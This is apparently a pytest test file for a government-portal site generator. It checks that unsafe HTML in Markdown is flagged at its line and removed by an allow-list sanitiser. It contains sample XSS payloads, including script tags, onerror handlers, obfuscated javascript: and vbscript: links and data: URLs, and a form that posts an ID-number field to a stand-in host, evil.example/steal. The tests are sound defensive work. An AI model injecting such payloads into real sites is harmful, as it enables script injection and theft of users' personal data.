"""Unsafe HTML in items and docs pages (issue 13, CONTRACT §5 ``unsafe-html``): an error at its
line, and a sanitising pass (nh3, an allow-list) over every page and feed entry's HTML."""

from __future__ import annotations

from pathlib import Path

import feedparser
import pytest
from conftest import build, check_cli, findings, grep_site
from factories import item_md, make_portal

from opengov.core.sanitize import sanitize, unsafe_html

BAD = [
    ("<script>alert(1)</script>", "<script>"),
    ('<img src="x.png" onerror="alert(1)">', "onerror"),
    ("[点这里](javascript:alert(1))", "javascript:"),
    ('<a href="jav&#x61;script:alert(1)">链接</a>', "javascript:"),
    ('<a href="java\tscript:alert(1)">链接</a>', "javascript:"),
    ('<a href="VBScript:msgbox(1)">链接</a>', "vbscript:"),
    ("[文件](data:text/html;base64,PHNjcmlwdD4=)", "data:"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ('<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "javascript:"),
]


@pytest.mark.parametrize(("markup", "what"), BAD, ids=[what for _, what in BAD])
def test_unsafe_markup_is_an_error_at_its_line(portal_dir: Path, markup: str, what: str) -> None:
    body = f"第一段。\n\n{markup}\n"
    make_portal(
        portal_dir, {"content/news/a.md": item_md(body=body), "docs/about.md": f"# 关于\n\n{markup}\n"}
    )
    result = check_cli(portal_dir)
    assert result.returncode == 1
    heads = [line.split(": ", 2)[0] for line in findings(result.stdout) if "unsafe-html" in line]
    # The item's body starts on line 7 (five front matter lines between the two ---).
    assert "content/news/a.md:9" in heads and "docs/about.md:3" in heads, result.stdout
    assert any(what in line for line in findings(result.stdout) if "unsafe-html" in line)
    built = build(portal_dir)
    assert built.returncode == 1 and not (portal_dir / "site").exists()


def test_code_and_safe_markup_are_not_flagged() -> None:
    body = (
        "`<script>alert(1)</script>` 与 [说明](https://example.gov.cn/) ![图](data:image/png;base64,iVBO)\n\n"
        '```html\n<a href="javascript:x" onclick="y">z</a>\n```\n\n'
        "    <iframe src=x></iframe>\n\n"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="图"> <a href="tel:08171234567">电话</a>\n'
    )
    assert unsafe_html(body) == []


def test_sanitize_keeps_what_markdown_writes_and_drops_the_rest() -> None:
    kept = (
        '<h2 id="a">标题</h2><div class="admonition note"><p class="admonition-title">注意</p></div>'
        '<table><tbody><tr><th style="text-align: left">项目</th><td colspan="2">1</td></tr></tbody></table>'
        '<p><a href="../x/" title="t">链接</a><img alt="图" src="a.png"><sup id="fnref:1">1</sup></p>'
    )
    assert sanitize(kept) == kept
    dropped = sanitize(
        '<style>p{display:none}</style><form action="https://evil.example/"><input name="q"></form>'
        '<a href="javascript:alert(1)">x</a><object data="x.swf"></object>'
    )
    assert "<style" not in dropped and "<form" not in dropped and "javascript" not in dropped
    assert "<object" not in dropped
    assert "javascript" not in sanitize('<img src="a.png" srcset="a2.png 2x, javascript:alert(1) 3x">')


def test_what_the_finder_lets_pass_is_still_cleaned_in_pages_and_feeds(portal_dir: Path) -> None:
    body = (
        "正文。\n\n<style>.og-hide-me{display:none}</style>\n\n"
        '<form action="https://evil.example/steal"><input name="身份证"><button>提交</button></form>\n'
    )
    make_portal(portal_dir, {"content/news/a.md": item_md(body=body)})
    result = build(portal_dir)
    assert result.returncode == 0, result.stderr
    site = portal_dir / "site"
    page = (site / "news/a/index.html").read_text("utf-8")
    article = page[page.index("<article") : page.index("</article>")]
    assert "<style" not in article and "<form" not in article and "正文" in article
    assert grep_site(site, ["evil.example", ".og-hide-me{display:none}"]) == []
    feed = feedparser.parse((site / "news/atom.xml").read_bytes())
    content = feed.entries[0].content[0].value
    assert "正文" in content and "<form" not in content


def test_the_demo_has_no_unsafe_html() -> None:
    root = Path(__file__).resolve().parents[1]
    result = check_cli(root)
    assert "unsafe-html" not in result.stdout
